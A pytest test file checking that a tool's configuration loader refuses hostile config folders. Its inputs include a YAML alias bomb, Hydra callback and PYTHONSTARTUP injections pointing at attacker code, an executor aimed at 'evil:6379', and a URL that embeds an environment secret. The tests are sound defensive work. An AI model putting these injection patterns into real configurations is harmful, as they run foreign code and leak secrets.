"""A folder of configuration from somebody else runs no code and reads no secrets."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.papers.command_line import CURVE, T4, Command
from trimbench.reproduction.project import project

pytestmark = pytest.mark.usefixtures("few")

MINE = ("--config-dir", "mine")
WORDS = (*MINE, "task=list")


def write(path: str, text: str) -> None:
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    Path(path).write_text(text)


def refusal(command: Command, *words: str) -> str:
    answer = command(*words)
    assert answer.code == 2
    return answer.err


@pytest.fixture
def code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A module that leaves a file where it is imported."""
    (tmp_path / "their_code.py").write_text("import pathlib\npathlib.Path('ran').touch()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    return tmp_path / "ran"


def test_a_file_that_stands_for_too_much_is_refused_before_anything_reads_it(command: Command) -> None:
    lines = [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    write("mine/experiment/theirs.yaml", "\n".join(["# @package _global_", "a0: &a0 [1, 2]", *lines]))
    answer = refusal(command, *WORDS, "experiment=theirs")
    assert "mine/experiment/theirs.yaml must have at most 131,072 characters with aliases" in answer
    assert answer.count("\n") == 1


def test_a_runner_from_elsewhere_is_imported_only_if_allowed(command: Command, code: Path) -> None:
    write("mine/experiment/trimming/theirs.yaml", "# @package _global_\nrunner: their_code:Theirs\n")
    words = (*WORDS, "experiment=trimming/theirs")
    assert "add --allow-code=their_code" in refusal(command, *words)
    assert not code.exists()
    assert "no attribute 'Theirs'" in refusal(command, *words, "--allow-code=their_code")
    assert code.exists()
    assert "--allow-code must name a module" in refusal(command, *WORDS, "--allow-code=")


@pytest.mark.parametrize("name", ["sweeps/theirs", "jobs/theirs", "comparisons/a/b", "run", "index"])
def test_an_experiment_takes_no_name_of_what_a_run_writes_besides(command: Command, name: str) -> None:
    text = (project().configuration / "experiment/trimming/table4.yaml").read_text()
    write(f"mine/experiment/{name}.yaml", "# @package _global_\n" + text.removeprefix("# @package _global_\n"))
    answer = refusal(command, *MINE, f"experiment={name}", "executor=serial")
    taken = "jobs, sweeps, comparisons, run, summary, index"
    assert f"the name of an experiment must not begin with {taken}, got {name!r}; move" in answer
    assert not Path("results").exists()


@pytest.mark.parametrize(
    "text",
    [
        "hydra: {callbacks: {theirs: {_target_: their_code.run}}}",
        "hydra: {job: {env_set: {PYTHONSTARTUP: their_code.py}}}",
        "hydra: {sweeper: {_target_: their_code.run}}",
        "hydra: {job_logging: {version: 1, handlers: {theirs: {class: their_code.run}}}}",
    ],
)
def test_settings_of_hydra_are_refused(command: Command, code: Path, text: str) -> None:
    write("mine/experiment/trimming/theirs.yaml", f"# @package _global_\n{text}\n")
    for words in (WORDS, ("-m", *WORDS, "seed=1,2"), ("--config-d", "mine", "task=list")):
        assert "must not set hydra." in refusal(command, *words, "experiment=trimming/theirs")
    assert not code.exists()


RAY = "trimbench.reproduction.execution.ray_executor.RayExecutor"
OF_THE_RUN = {
    "task": "task: fetch",
    "run": "run: theirs",
    "results": "results: /elsewhere",
    "cache_mode": "cache_mode: ignore",
    "offline": "offline: true",
    "executor": "executor: {workers: 1000}",
    "executor ": f"executor: {{_target_: {RAY}, address: 'evil:6379'}}",
    "executor  ": "defaults: [override /executor: ray]",
    "executor   ": "defaults: [override /executor: theirs]",
}


# What the project's root sets, the file of a profile cannot: it is merged before.
@pytest.mark.parametrize(
    ("group", "key"), [*(("experiment/trimming", key) for key in OF_THE_RUN), ("profile", "executor")]
)
def test_what_is_done_and_where_comes_from_the_command_line_alone(command: Command, group: str, key: str) -> None:
    write("mine/executor/theirs.yaml", THEIR_EXECUTOR)
    write(f"mine/{group}/theirs.yaml", f"# @package _global_\n{OF_THE_RUN[key]}\n")
    setting = f"{group.replace('/trimming', '')}={'trimming/' * (group != 'profile')}theirs"
    for words in ((), ("-m", "seed=1,2")):
        told = refusal(command, "--config-dir", "mine", *words, setting)
        assert told.startswith(f"files in mine must not set {key.strip()}: they say what is computed, not how"), told


THEIR_EXECUTOR = f"_target_: {RAY}\naddress: 127.0.0.1:1\nretries: 0\n"


def test_an_executor_of_a_folder_is_used_where_the_command_line_names_it(command: Command) -> None:
    write("mine/executor/theirs.yaml", THEIR_EXECUTOR)
    assert "executor=theirs: address must be that of a running Ray" in command(*MINE, T4, "executor=theirs").err
    assert command(*MINE, "task=list", "executor=theirs", "executor.retries=1").code == 0
    write("mine/executor/theirs.yaml", "# @package _global_\nhydra: {sweeper: {_target_: their_code.run}}\n")
    assert "must not set hydra.sweeper" in refusal(command, *WORDS, "executor=theirs")
    write("mine/executor/processes.yaml", THEIR_EXECUTOR)
    assert "must not take the place of the project's executor/processes.yaml" in refusal(command, *WORDS)


def test_a_study_may_have_a_folder_too(command: Command) -> None:
    write("mine/profile/theirs.yaml", "name: theirs\n")
    assert "data must be an existing file" in refusal(command, *MINE, "task=study", "data=t.csv", "target=y")


ROUNDABOUT = [
    (("--config-path", "mine"), "an option must be one of "),
    (("--config-name=theirs",), "an option must be one of "),
    (("-cp", "mine"), "argument --cfg/-c: invalid choice: 'p'"),
    (("--experimental-rerun", "mine/config.pickle"), "an option must be one of "),
    (("hydra.searchpath=[file://mine]",), "hydra.searchpath must be left out"),
    (("++hydra.searchpath=[file://mine]",), "hydra.searchpath must be left out"),
    (("+hydra.callbacks.theirs._target_=their_code.run",), "hydra.callbacks.theirs._target_ must be left out"),
    (("hydra/launcher=theirs",), "hydra/launcher must be left out"),
    (("+executor@hydra.callbacks.theirs=serial",), "executor@hydra.callbacks.theirs must be left out"),
    (("+executor@_global_.hydra.callbacks.theirs=serial",), "executor@_global_.hydra.callbacks.theirs must be left"),
    (("~hydra.sweeper",), "hydra.sweeper must be left out"),
    (("-m", "hydra.sweeper._target_=their_code.run", "seed=1,2"), "hydra.sweeper._target_ must be left out"),
    (("hydra.job.name=x",), "hydra.job.name must be left out"),
]


@pytest.mark.parametrize(("words", "told"), ROUNDABOUT, ids=str)
def test_settings_of_hydra_itself_are_refused(command: Command, code: Path, words: tuple[str, ...], told: str) -> None:
    write("mine/config.yaml", "hydra: {callbacks: {theirs: {_target_: their_code.run}}}\n")
    write("mine/theirs.yaml", "hydra: {callbacks: {theirs: {_target_: their_code.run}}}\n")
    for more in ((), ("--allow-code=hydra",)):
        assert refusal(command, *words, *more, "task=list").startswith(told)
    assert not code.exists()


def test_a_configuration_reads_only_documented_variables(command: Command, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("THEIR_SECRET", "s3cret")
    address = "https://example.org/${oc.env:THEIR_SECRET}"
    file = f"{{path: x/x.csv, url: '{address}', sha256: '{'0' * 64}'}}"
    write("mine/dataset/theirs.yaml", f"kind: csv\ntarget: c\nfile: {file}\n")
    words = ("--config-dir", "mine", "task=fetch", CURVE, "datasets=[theirs]")
    told = refusal(command, *words)
    assert "TRIMBENCH_CACHE" in told
    assert "s3cret" not in told
